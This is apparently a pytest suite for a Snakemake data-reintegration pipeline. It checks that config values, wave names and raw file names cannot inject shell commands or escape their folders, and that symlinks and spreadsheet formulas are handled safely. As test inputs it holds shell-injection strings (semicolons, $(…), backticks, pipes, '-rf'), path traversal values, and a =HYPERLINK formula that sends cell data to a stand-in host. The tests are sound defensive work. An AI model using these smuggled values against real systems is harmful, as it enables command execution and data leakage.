"""No injection (issue 17 Build 4): config values and file names never run as shell code,
wave and release names cannot leave their folders, symlinks in a wave folder are refused.

Real Snakemake on a one-wave raw release (extraction only: the stage whose shell string held
``data.raw_dir`` unquoted and ``extract.case_id_pattern`` in single quotes).
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import snakemake_runner as runner
from data.fixtures import RECORD_A, write_csv
from reintegration.privacy import check_names

from reliability.test_keys import PATTERN, env_without_key

pytestmark = [pytest.mark.e2e]

WAVE = "2020-07"


def raw_workdir(tmp_path: Path, **config: str) -> Path:
    """A tiny workdir reading raw exports of one wave; ``config`` replaces top-level lines."""
    workdir = runner.tiny_workdir(tmp_path / "work")
    cfg = workdir / "config" / "config.yaml"
    text = re.sub(r"(?m)^  source: synthetic$", "  source: raw", cfg.read_text("utf-8"))
    text = re.sub(r"(?m)^  waves: .*$", f"  waves: [{WAVE}]", text)
    for key, value in config.items():
        text, n = re.subn(rf"(?m)^  {key}: .*$", f"  {key}: {value}", text)
        assert n == 1, key
    cfg.write_text(text, encoding="utf-8")
    write_csv(workdir / "resources" / "raw" / WAVE / "cases.csv", "case_management", [RECORD_A])
    return workdir


def extract(workdir: Path, *args: str) -> subprocess.CompletedProcess:
    env = runner.snakemake_env(REINTEGRATION_PSEUDONYM_KEY="injection-test-key-0123456789")
    target = f"results/waves/{WAVE}/extract_report.json"
    return runner.run_snakemake(workdir, "--cores", "1", target, *args, check=False, env=env)


def test_metacharacters_in_case_id_pattern_and_file_names_never_run(tmp_path):
    marker = tmp_path / "PWNED"
    # The pattern used to sit in '...': a quote ends it and the rest would run.
    pattern = f"\"^[A-Z]{{3}}-[0-9]{{4}}-[0-9]+$'; touch {marker}; echo '\""
    workdir = raw_workdir(tmp_path, case_id_pattern=pattern)
    # A raw file whose name is a command substitution (it reaches no shell string).
    write_csv(
        workdir / "resources/raw" / WAVE / f"$(touch {marker.name}).csv", "case_management",
        [{**RECORD_A, "case_id": "GIN-2019-000102"}],
    )  # fmt: skip
    run = extract(workdir)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert not marker.exists() and not (workdir / marker.name).exists()
    assert (workdir / "results/waves" / WAVE / "records.parquet").is_file()


@pytest.mark.parametrize(
    "key, value",
    [
        ("raw_dir", '"resources/raw; touch PWNED"'),
        ("raw_dir", '"$(touch PWNED)"'),
        ("raw_dir", '"-rf"'),
        ("pseudonym_key_file", '"key`touch PWNED`"'),
        ("dir", '"config/codebook|touch PWNED"'),
    ],
)
def test_path_keys_with_shell_metacharacters_stop_at_parse_naming_the_key(tmp_path, key, value):
    workdir = raw_workdir(tmp_path, **{key: value})
    run = extract(workdir, "--dry-run")
    assert run.returncode != 0
    assert key in run.stdout + run.stderr
    assert not (workdir / "PWNED").exists()


@pytest.mark.parametrize("name", ["../outside", "a/b", "w;touch PWNED"])
def test_release_and_wave_names_cannot_leave_their_folders(tmp_path, name):
    workdir = raw_workdir(tmp_path)
    cfg = workdir / "config" / "config.yaml"
    text = cfg.read_text("utf-8")
    cfg.write_text(text.replace(f"  waves: [{WAVE}]", f'  waves: ["{name}"]'), encoding="utf-8")
    run = extract(workdir, "--dry-run")
    assert run.returncode != 0 and "waves" in run.stdout + run.stderr
    cfg.write_text(re.sub(r"(?m)^  name: .*$", f'  name: "{name}"', text), encoding="utf-8")
    run = extract(workdir, "--dry-run")
    assert run.returncode != 0 and "name" in run.stdout + run.stderr


def test_discovered_wave_folders_with_unsafe_names_are_refused(tmp_path):
    workdir = raw_workdir(tmp_path)
    cfg = workdir / "config" / "config.yaml"
    cfg.write_text(
        cfg.read_text("utf-8").replace(f"  waves: [{WAVE}]", "  waves: discover"), "utf-8"
    )
    (workdir / "resources" / "raw" / "bad wave;touch PWNED").mkdir()
    run = extract(workdir, "--dry-run")
    assert run.returncode != 0
    assert "bad wave;touch PWNED" in run.stdout + run.stderr and "rename" in run.stdout + run.stderr
    assert not (workdir / "PWNED").exists()


def test_check_names():
    assert check_names(["2019-07", "wave_2.b"], what="wave", where="x") == ["2019-07", "wave_2.b"]
    for bad in ("..", "../a", "a/b", "", "a b", "$(x)", "-a", "a\nb"):
        with pytest.raises(ValueError, match="not allowed"):
            check_names([bad], what="wave", where="x")


def test_symlink_in_wave_folder_is_refused(tmp_path):
    outside = tmp_path / "elsewhere" / "other_people.csv"
    write_csv(outside, "case_management", [{**RECORD_A, "case_id": "GIN-2019-000999"}])
    wave = tmp_path / "raw" / WAVE
    write_csv(wave / "cases.csv", "case_management", [RECORD_A])
    (wave / "linked.csv").symlink_to(outside)
    out = tmp_path / "out"
    run = subprocess.run(
        [
            sys.executable, str(runner.REPO / "workflow/scripts/extract_wave.py"),
            "--wave-dir", str(wave), "--wave", WAVE,
            "--codebook", str(runner.REPO / "config/codebook"),
            "--key-file", str(tmp_path / ".key"), "--case-id-pattern", PATTERN,
            "--records", str(out / "records.parquet"), "--report", str(out / "report.json"),
        ],
        capture_output=True, text=True, env=env_without_key(),
    )  # fmt: skip
    assert run.returncode == 1 and "linked.csv" in run.stderr and "symlink" in run.stderr.lower()


def test_a_raw_file_name_that_is_a_formula_reaches_audit_files_neutralised(tmp_path):
    """The issue's case: a raw file named ``=HYPERLINK(...)`` is written into
    tables/audit_files.csv; the cell must start with ``'`` (OWASP), so Excel shows text."""
    import csv

    from reintegration.io import write_csv
    from reintegration.report.audit import files_table

    names = ['=HYPERLINK("http://x.example/?"&A1,"open").csv', "+1+cmd.csv", "@SUM(A1).xlsx"]
    report = {"files": [{"file": n, "format": "csv", "rows_read": 1} for n in names]}
    write_csv(files_table({"2020-01": report}), tmp_path / "audit_files.csv")
    with open(tmp_path / "audit_files.csv", newline="", encoding="utf-8") as f:
        cells = [row["file"] for row in csv.DictReader(f)]
    assert cells == ["'" + n for n in names]
